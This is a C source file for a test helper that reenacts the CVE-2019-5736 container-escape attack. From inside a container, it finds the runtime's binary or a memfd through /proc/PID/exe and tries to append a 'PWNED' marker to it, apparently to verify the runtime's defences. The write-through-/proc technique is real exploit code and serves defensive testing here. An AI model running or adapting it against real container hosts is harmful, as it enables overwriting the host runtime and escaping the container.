/* exe-watch: inside a container, plays the CVE-2019-5736 attacker against
 * `exec`: it watches /proc for a process whose executable is the runtime's
 * binary (given by device and inode as the host sees it), or a sealed memfd,
 * opens it through /proc/PID/exe as the attack does, and tries to write to it
 * through that descriptor. A static binary, copied into a test rootfs.
 *   exe-watch DEV INO SECONDS
 * Prints "caught PID: <what writing did>" ("written" when it worked) and
 * exits 0, or prints "none" and exits 1 after SECONDS. */
#include <dirent.h>
#include <errno.h>
#include <stdbool.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#ifndef F_GET_SEALS
#define F_GET_SEALS 1034
#endif

static int
try_write (int fd)
{
  char path[64];
  snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
  /* the runtime may still be running it (ETXTBSY): as the attack, try again */
  for (int i = 0; i < 200; i++) {
    int w = open (path, O_WRONLY | O_APPEND);
    if (w >= 0) {
      ssize_t n = write (w, "PWNED\n", 6);
      close (w);
      return n == 6 ? 0 : errno;
    }
    if (errno != ETXTBSY)
      return errno;
    usleep (5000);
  }
  return ETXTBSY;
}

int
main (int argc, char **argv)
{
  if (argc != 4) {
    fprintf (stderr, "usage: exe-watch DEV INO SECONDS\n");
    return 2;
  }
  dev_t dev = strtoull (argv[1], NULL, 0);
  ino_t ino = strtoull (argv[2], NULL, 0);
  time_t end = time (NULL) + atoi (argv[3]);
  pid_t self = getpid ();
  while (time (NULL) < end) {
    DIR *d = opendir ("/proc");
    if (d == NULL)
      return 2;
    struct dirent *e;
    while ((e = readdir (d))) {
      pid_t pid = atoi (e->d_name);
      if (pid <= 1 || pid == self)
        continue;
      char path[64];
      snprintf (path, sizeof path, "/proc/%d/exe", pid);
      int fd = open (path, O_RDONLY | O_CLOEXEC);
      if (fd < 0)
        continue;
      struct stat st;
      bool runtime = fstat (fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino;
      bool memfd = fcntl (fd, F_GET_SEALS) >= 0;
      if (runtime || memfd) {
        int r = try_write (fd);
        printf ("caught %d (%s): %s\n", pid, runtime ? "the binary" : "a memfd",
                r == 0 ? "written" : strerror (r));
        return 0;
      }
      close (fd);
    }
    closedir (d);
  }
  printf ("none\n");
  return 1;
}
